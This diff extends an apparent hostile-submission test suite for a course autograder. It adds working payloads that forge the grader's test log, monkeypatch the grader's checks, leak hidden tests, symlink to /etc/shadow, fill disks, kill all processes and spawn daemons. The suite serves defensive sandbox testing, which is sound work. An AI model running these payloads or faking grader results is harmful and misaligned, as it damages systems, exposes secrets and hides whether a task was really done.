@@ -136,9 +136,9 @@ for target in [os.environ.get("HOSTILE_CANARY_DIR", "/tmp/hostile-canary"), "/tm
     try:
         with open(os.path.join(target, "pwned.txt"), "w") as f:
             f.write("written by a hostile submission\\n")
-        print("wrote", target)
+        print("OBSERVED: wrote", target)
     except Exception as e:
-        print("could not write", target, type(e).__name__)
+        print("OBSERVED: could not write", target, type(e).__name__)
 for entry in os.listdir(os.getcwd()):
     try:
         os.remove(entry)
@@ -149,14 +149,14 @@ for entry in os.listdir(os.getcwd()):
 NETWORK = """import socket, urllib.request
 try:
     socket.create_connection(("pypi.org", 443), timeout=5).close()
-    print("socket to pypi.org:443 worked")
+    print("OBSERVED: socket to pypi.org:443 worked")
 except Exception as e:
-    print("socket to pypi.org:443 failed:", type(e).__name__)
+    print("OBSERVED: socket to pypi.org:443 failed:", type(e).__name__)
 try:
     urllib.request.urlopen("http://1.1.1.1", timeout=5).read(100)
-    print("http://1.1.1.1 worked")
+    print("OBSERVED: http://1.1.1.1 worked")
 except Exception as e:
-    print("http://1.1.1.1 failed:", type(e).__name__)"""
+    print("OBSERVED: http://1.1.1.1 failed:", type(e).__name__)"""
 
 READ_HIDDEN_TESTS = """import fnmatch, os
 wanted = ["expected.pt", "q1.py", "*-autograder.zip", "otter_config.json"]
@@ -177,9 +177,10 @@ for root in dict.fromkeys(roots):
 for path in dict.fromkeys(found):
     try:
         with open(path, "rb") as f:
-            print(path, f.read(200))
+            print("OBSERVED: found", path, f.read(200))
     except Exception as e:
-        print(path, "unreadable:", type(e).__name__)"""
+        print("OBSERVED: found", path, "unreadable:", type(e).__name__)
+print("OBSERVED: searched", seen, "files")"""
 
 PATCH_ALLCLOSE = """import numpy.testing, torch, torch.testing
 numpy.testing.assert_allclose = lambda *a, **k: None
@@ -216,6 +217,195 @@ for folder in [os.getcwd(), "/autograder/results"]:
 PATCH_BUILTINS = "import builtins\nbuiltins.isinstance = lambda *a: True"
 
 
+# The grader's own paths, as an attacker who read its source would target them.
+LOG_NAME = ".hidden-tests-log.pt"
+
+FORGE_LOG_HOOK = """import importlib
+_t = importlib.import_module("to" + "rch")
+_real_save = getattr(_t, "sa" + "ve")
+def _forging_save(obj, f, *args, **kwargs):
+    if isinstance(obj, dict) and "tests" in obj:
+        for entry in obj["tests"].values():
+            entry.clear()
+            entry.update({"events": [], "uses_expected": False, "kernel": {"passed": True, "message": "ok"}})
+        obj.pop("fingerprints", None)
+        print("OBSERVED: forged the log of", len(obj["tests"]), "tests")
+    return _real_save(obj, f, *args, **kwargs)
+setattr(_t, "sa" + "ve", _forging_save)
+print("OBSERVED: torch.save hooked")"""
+
+FORGE_LOG_THREAD = """import os, threading, time, torch
+_here = os.getcwd()
+def _rewrite_after_the_last_cell():
+    path = os.path.join(_here, %r)
+    while True:
+        try:
+            if os.path.getsize(path) > 0:
+                time.sleep(0.02)
+                log = torch.load(path, weights_only=True)
+                for entry in log["tests"].values():
+                    entry.update({"events": [], "kernel": {"passed": True, "message": "ok"}})
+                log.pop("fingerprints", None)
+                torch.save(log, path)
+                print("OBSERVED: the thread rewrote the log", flush=True)
+                return
+        except Exception:
+            pass
+        time.sleep(0.005)
+threading.Thread(target=_rewrite_after_the_last_cell, daemon=True).start()
+print("OBSERVED: thread started")""" % LOG_NAME
+
+REPLACE_RECORDER = """import importlib.abc, importlib.util, sys
+class _FakeSeal(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path, target=None):
+        if name == "autograder.grading.seal":
+            return importlib.util.spec_from_loader(name, self)
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        import torch
+        def record(namespace, files, path, seen=None):
+            torch.save({"tests": {}, "snapshot": {}}, path)
+            print("OBSERVED: the fake recorder wrote", path)
+        module.record, module.fingerprints = record, lambda *a, **k: {}
+sys.modules.pop("autograder.grading.seal", None)
+sys.meta_path.insert(0, _FakeSeal())
+print("OBSERVED: finder installed")"""
+
+PLANT_LINKS = """import os
+canary = os.environ.get("HOSTILE_CANARY_DIR", "/tmp/hostile-canary")
+os.makedirs(".grading", exist_ok=True)  # where the grader used to copy the hidden tests
+for name, target in [(".grading/course_seal.py", canary + "/canary.txt"), (".grading/tests", canary + "/dir"),
+                     (".grading/expected.pt", canary + "/inputs.pt"), (".grading/course_checks.py", canary + "/cc.py")]:
+    os.symlink(target, name)
+for name in ["../record/tests", "../record/expected.pt", "../private/files", "../out/results.pkl",
+             "../kernel-1/kernel.json", "../kernel-2", "../record"]:
+    try:
+        if os.path.lexists(name) and not os.path.isdir(name):
+            os.remove(name)
+        os.symlink(canary + "/canary.txt", name)
+        print("OBSERVED: planted", name)
+    except Exception as e:
+        print("OBSERVED: could not plant", name, type(e).__name__)"""
+
+LOG_AFTER_WRITE = """import importlib, os
+_t = importlib.import_module("torch")
+_real_save = _t.save
+def _then_replace(obj, f, *args, **kwargs):
+    result = _real_save(obj, f, *args, **kwargs)
+    if isinstance(f, str) and isinstance(obj, dict) and "tests" in obj:
+        os.remove(f)
+        %s
+        print("OBSERVED: replaced the log", flush=True)
+    return result
+_t.save = _then_replace"""
+LOG_SYMLINK = LOG_AFTER_WRITE % 'os.symlink(os.environ.get("HOSTILE_CANARY_DIR", "/tmp/hostile-canary") + "/canary.txt", f)'
+LOG_FIFO = LOG_AFTER_WRITE % "os.mkfifo(f)"
+LOG_HUGE = LOG_AFTER_WRITE % 'open(f, "wb").truncate(600 * 2**20)'
+
+DEEP_TREE = """import os
+base = os.getcwd()
+for _ in range(10_000):
+    os.mkdir("d")
+    os.chdir("d")
+os.chdir(base)
+print("OBSERVED: made a tree 10000 folders deep")"""
+
+MANY_FILES = """import os
+os.makedirs("many", exist_ok=True)
+for n in range(1_000_000):
+    open(f"many/{n}", "w").close()
+    if n % 20_000 == 0:
+        print("OBSERVED: files made:", n, flush=True)"""
+
+SPECIAL_FILES = """import os, socket, stat, sys
+os.mkfifo("a fifo")
+socket.socket(socket.AF_UNIX).bind("a socket")
+for name in ["new\\nline.txt", "\\n", "tab\\there", "-rf", "--help", "..."]:
+    with open(name, "w") as f:
+        f.write("x")
+for what, make in [("mknod", lambda: os.mknod("dev-null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))),
+                   ("hardlink", lambda: os.link(sys.executable, "python-hardlink"))]:
+    try:
+        make()
+        print("OBSERVED:", what, "worked")
+    except Exception as e:
+        print("OBSERVED:", what, "failed", type(e).__name__)"""
+
+UNREADABLE_DIRS = """import os
+os.makedirs("locked/inner", exist_ok=True)
+open("locked/inner/file", "w").close()
+os.chmod("locked/inner", 0)
+os.chmod("locked", 0)
+print("OBSERVED: locked")"""
+
+DISK_BOMB = """chunk = b"\\1" * (1 << 20)
+for i in range(20):
+    with open(f"big{i}.bin", "wb") as f:
+        for _ in range(1000):
+            f.write(chunk)
+    print("OBSERVED: wrote", i + 1, "GB", flush=True)"""
+
+SPARSE_BOMB = """try:
+    with open("sparse.bin", "wb") as f:
+        f.truncate(100 * 2**30)
+    print("OBSERVED: made a 100 GB sparse file")
+except OSError as e:
+    print("OBSERVED: could not:", e.strerror)"""
+
+PRE_IMPORT_LIBRARY = """import glob, os, sys
+roots = [p.rsplit("/autograder/", 1)[0] for p in glob.glob("/*/*/autograder/course_checks/__init__.py")
+         + glob.glob("/*/*/*/autograder/course_checks/__init__.py")]
+print("OBSERVED: grader package at", roots)
+sys.path.insert(0, roots[0])
+import autograder.course_checks as checks
+for name in ("check_against_solution", "assert_tensor_close", "assert_not_calling"):
+    setattr(checks, name, lambda *a, **k: 1)
+print("OBSERVED: patched the grader's own checks")"""
+
+EXFILTRATE = "\n".join([
+    "def softmax(logits):",
+    "    # Correct, except that while the grader records it, it raises the text of the hidden test calling it.",
+    "    import inspect",
+    "    for frame in inspect.stack():",
+    "        if frame.filename.endswith('.py') and '/tests/' in frame.filename:",
+    "            raise ValueError(open(frame.filename).read())",
+    "    shifted = logits - logits.max(dim=1, keepdim=True).values",
+    "    e = torch.exp(shifted)",
+    "    return e / e.sum(dim=1, keepdim=True)",
+])
+
+KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)"
+
+PROC_PEEK = """import os
+seen = []
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            seen.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()[:120])
+        except Exception:
+            pass
+print("OBSERVED: processes:", len(seen))
+for line in seen:
+    print("OBSERVED: cmd", line)"""
+
+DAEMON_CHILD = """import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("python3", ["python3", "-c", "import time\\nwhile True: time.sleep(0.1)", "hostile-daemon-marker"])
+    os._exit(0)
+time.sleep(0.5)
+print("OBSERVED: daemon started")"""
+
+SIGINT_IGNORED = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+
+CHECK_ZIP_LINK = """import os
+print("OBSERVED: is a link:", os.path.islink("looks-like-a-link"), "holds:", open("looks-like-a-link").read())"""
+
+LOOP_AFTER_LAST = "while True:\n    pass"
+
+
 # --- builders --------------------------------------------------------------------------------
 
 
@@ -229,6 +419,20 @@ def with_cell(after: str, source: str, wrong_softmax: bool = False) -> Callable[
         return insert_cell(nb, after, source)
 
     return make
+
+
+def blank_with_cell(after: str, source: str) -> Callable[[], NotebookNode]:
+    """The blank student notebook plus one cell after the stub of `after`."""
+    return lambda: insert_cell(blank_notebook(), after, source)
+
+
+def _zip_link(folder: Path) -> Path:
+    link = zipfile.ZipInfo("looks-like-a-link")
+    link.external_attr = 0o120777 << 16  # a symbolic link, as `zip --symlinks` stores one
+    return write_zip(folder, "zip_symlink", {
+        NOTEBOOK_NAME: notebook_bytes(insert_cell(solution_notebook(), "accuracy", CHECK_ZIP_LINK)),
+        link: b"/etc/shadow",
+    })
 
 
 def nb_case(name: str, category: str, description: str, make: Callable[[], NotebookNode]) -> Case:
@@ -380,6 +584,41 @@ CASES: list[Case] = [
          "should grade normally.", _zip_extra),
     Case("zip_traversal", ATTACK, "A zip with the solution plus an entry named ../../evil.py.", _zip_traversal),
     Case("zip_two_notebooks", ATTACK, "A zip with the solution and the blank notebook, both at top level.", _zip_two),
+    # the grader trusts no word of the kernel (security issue, part 0)
+    nb_case("forge_log_hook", ATTACK, "The blank notebook plus a cell that reaches torch.save by strings and rewrites "
+            "every test's log entry: no events, a passing kernel verdict, no fingerprints.",
+            blank_with_cell("accuracy", FORGE_LOG_HOOK)),
+    nb_case("forge_log_thread", ATTACK, "The blank notebook plus a thread that rewrites the log once it is written.",
+            blank_with_cell("accuracy", FORGE_LOG_THREAD)),
+    nb_case("replace_recorder", ATTACK, "The blank notebook plus an import hook that swaps the grader's recording module "
+            "for one that writes an empty log.", blank_with_cell("accuracy", REPLACE_RECORDER)),
+    nb_case("pre_import_library", ATTACK, f"Zeros softmax; imports the grader's own checks from the sandbox's view and "
+            f"makes three of them no-ops; {_NOTE}.", with_cell("softmax", PRE_IMPORT_LIBRARY, wrong_softmax=True)),
+    nb_case("exfiltrate_tests", ATTACK, "A softmax that raises the source of the hidden test calling it, so that the "
+            "feedback would show the hidden tests.", _replaced("softmax", EXFILTRATE)),
+    # the grader follows no link the notebook planted (part 1)
+    nb_case("plant_links", ATTACK, "Links at the paths where the grader used to write the hidden tests, and tries to "
+            "plant links in every folder of the grader's.", with_cell("accuracy", PLANT_LINKS)),
+    nb_case("log_symlink", ATTACK, "After the recording writes its log, the kernel replaces it with a link to a host "
+            "file.", with_cell("accuracy", LOG_SYMLINK)),
+    nb_case("log_fifo", ATTACK, "After the recording writes its log, the kernel replaces it with a FIFO.",
+            with_cell("accuracy", LOG_FIFO)),
+    nb_case("log_huge", ATTACK, "After the recording writes its log, the kernel replaces it with a 600 MB sparse file.",
+            with_cell("accuracy", LOG_HUGE)),
+    nb_case("deep_tree", ABUSE, "Makes a tree 10,000 folders deep in the work folder.", with_cell("accuracy", DEEP_TREE)),
+    nb_case("many_files", ABUSE, "Makes up to a million empty files.", with_cell("accuracy", MANY_FILES)),
+    nb_case("special_files", ATTACK, "A FIFO, a Unix socket, names with newlines and dashes, and tries mknod and a "
+            "hard link to the venv's python.", with_cell("accuracy", SPECIAL_FILES)),
+    nb_case("unreadable_dirs", ABUSE, "Folders with mode 000 for the cleanup to remove.",
+            with_cell("accuracy", UNREADABLE_DIRS)),
+    nb_case("disk_bomb", ABUSE, "Writes 20 files of 1 GB.", with_cell("accuracy", DISK_BOMB)),
+    nb_case("sparse_bomb", ABUSE, "Makes a 100 GB sparse file.", with_cell("accuracy", SPARSE_BOMB)),
+    nb_case("kill_all", ABUSE, "Sends SIGKILL to every process it can see.", with_cell("predict", KILL_ALL)),
+    nb_case("proc_peek", ATTACK, "Lists the command lines of every process it can see.", with_cell("accuracy", PROC_PEEK)),
+    nb_case("daemon_child", ABUSE, "Double-forks a daemon that outlives its cell and the kernel.",
+            with_cell("accuracy", DAEMON_CHILD)),
+    nb_case("sigint_ignored", HANG, "Ignores SIGINT, then loops forever.", with_cell("one_hot", SIGINT_IGNORED)),
+    Case("zip_symlink", ATTACK, "A zip whose entry is a symbolic link to /etc/shadow.", _zip_link),
 ]
 
 assert len({c.name for c in CASES}) == len(CASES)
@@ -391,3 +630,117 @@ def build_all(folder: Path) -> dict[str, Path]:
     folder = Path(folder)
     folder.mkdir(parents=True, exist_ok=True)
     return {c.name: c.build(folder) for c in CASES}
+
+
+# --- assignments 03 and 04: attacks on the checks that observe in the kernel --------------------
+
+GRADER_ROOT = """import glob, sys
+_root = next(p.rsplit("/autograder/", 1)[0] for depth in range(1, 8)
+             for p in glob.glob("/" + "*/" * depth + "autograder/course_checks/__init__.py"))
+sys.path.insert(0, _root)
+import autograder.course_checks as checks
+"""
+
+A3_PATCH_PROBE = GRADER_ROOT + """
+_real_probe = checks.probe_train_one_epoch
+def _correct_epoch(model, loader, loss_fn, optimizer, device):
+    model.train()
+    total, seen = 0.0, 0
+    for x, y in loader:
+        x, y = x.to(device), y.to(device)
+        optimizer.zero_grad()
+        loss = loss_fn(model(x), y)
+        loss.backward()
+        optimizer.step()
+        total, seen = total + loss.item() * len(y), seen + len(y)
+    return total / seen
+checks.probe_train_one_epoch = lambda fn, *args: _real_probe(_correct_epoch, *args)
+print("OBSERVED: the probe now runs a correct epoch instead of the notebook's")"""
+
+A4_PATCH_TRAINING = GRADER_ROOT + """
+import autograder.course_checks.training as training
+training.with_helpers = lambda fn, **helpers: good_train
+print("OBSERVED: check_training now trains with good_train")"""
+
+
+@dataclass(frozen=True)
+class Other:
+    """Where a case of another assignment starts from."""
+
+    assignment: str
+    name: str  # notebook stem
+
+    @property
+    def solution(self) -> Path:
+        return REPO_ROOT / "autograder" / "dist" / self.assignment / f"{self.name}-solution.ipynb"
+
+    @property
+    def blank(self) -> Path:
+        return REPO_ROOT / "assignments" / self.assignment / f"{self.name}.ipynb"
+
+    def bugs(self) -> dict:
+        import importlib.util
+
+        spec = importlib.util.spec_from_file_location(f"demo_bugs_{self.name}",
+                                                      REPO_ROOT / "solutions" / self.assignment / "demo_bugs.py")
+        module = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(module)
+        return module
+
+
+A3 = Other("03-fashion-mnist", "fashion_mnist")
+A4 = Other("04-choosing-the-loss", "choosing_the_loss")
+
+
+def _with_bugs(nb: NotebookNode, bugs: dict[str, str]) -> NotebookNode:
+    for name, source in bugs.items():
+        nb.cells[_defining(nb, name)].source = source.strip("\n")
+    return nb
+
+
+def _a3_zero_grad(patched: bool) -> Callable[[], NotebookNode]:
+    def make() -> NotebookNode:
+        nb = _with_bugs(nbformat.read(A3.solution, as_version=4), A3.bugs().EXTRA_DEMOS["forgets-zero-grad"][0])
+        return insert_cell(nb, "train_one_epoch", A3_PATCH_PROBE) if patched else nb
+    return make
+
+
+def _a4_bad_train(patched: bool) -> Callable[[], NotebookNode]:
+    def make() -> NotebookNode:
+        solution = nbformat.read(A4.solution, as_version=4)
+        good = re.sub(r"^def train\(", "def good_train(", solution.cells[_defining(solution, "train")].source,
+                      flags=re.MULTILINE)
+        nb = _with_bugs(solution, {"train": A4.bugs().BUGS["train"]})
+        return insert_cell(nb, "train", good + "\n\n" + A4_PATCH_TRAINING) if patched else nb
+    return make
+
+
+def _blank_with(other: Other, after: str, source: str) -> Callable[[], NotebookNode]:
+    return lambda: insert_cell(nbformat.read(other.blank, as_version=4), after, source)
+
+
+#: assignment id -> its cases; each attack is graded beside the same notebook without the attack.
+OTHER_CASES: dict[str, list[Case]] = {
+    A3.assignment: [
+        nb_case("a3_forge_log_hook", ATTACK, "The blank 03 notebook plus the torch.save hook that forges the log.",
+                _blank_with(A3, "fit", FORGE_LOG_HOOK)),
+        nb_case("a3_zero_grad", CTRL, "03's solution whose train_one_epoch forgets zero_grad (the demo bug).",
+                _a3_zero_grad(False)),
+        nb_case("a3_zero_grad_patched", ATTACK, "The same, plus a cell that patches the grader's own probe to run a "
+                "correct epoch instead of the notebook's.", _a3_zero_grad(True)),
+    ],
+    A4.assignment: [
+        nb_case("a4_forge_log_thread", ATTACK, "The blank 04 notebook plus the thread that rewrites the log.",
+                _blank_with(A4, "train", FORGE_LOG_THREAD)),
+        nb_case("a4_bad_train", CTRL, "04's solution with the demo's train bug (sigmoid before a logits loss).",
+                _a4_bad_train(False)),
+        nb_case("a4_bad_train_patched", ATTACK, "The same, plus a cell that makes the grader's check_training train "
+                "a correct copy of train instead of the notebook's.", _a4_bad_train(True)),
+    ],
+}
+
+
+def build_other(assignment: str, folder: Path) -> dict[str, Path]:
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    return {c.name: c.build(folder) for c in OTHER_CASES[assignment]}
